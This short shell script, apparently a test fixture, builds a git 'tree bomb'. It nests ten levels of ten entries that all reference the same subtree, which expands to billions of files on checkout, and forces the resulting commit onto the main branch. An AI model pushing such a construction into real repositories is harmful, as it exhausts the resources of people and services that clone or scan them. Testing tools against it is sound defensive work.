cd repo
echo wrong >word.txt
git add word.txt
git commit --quiet --message=Wrong
tree=$(printf '100644 blob %s\tf0\n' "$(git rev-parse HEAD:word.txt)" | git mktree)
for _ in {1..10}; do
  tree=$(for number in {0..9}; do printf '040000 tree %s\tt%s\n' "$tree" "$number"; done | git mktree)
done
git update-ref refs/heads/main "$(git commit-tree -p HEAD~1 -m bomb "$tree")"
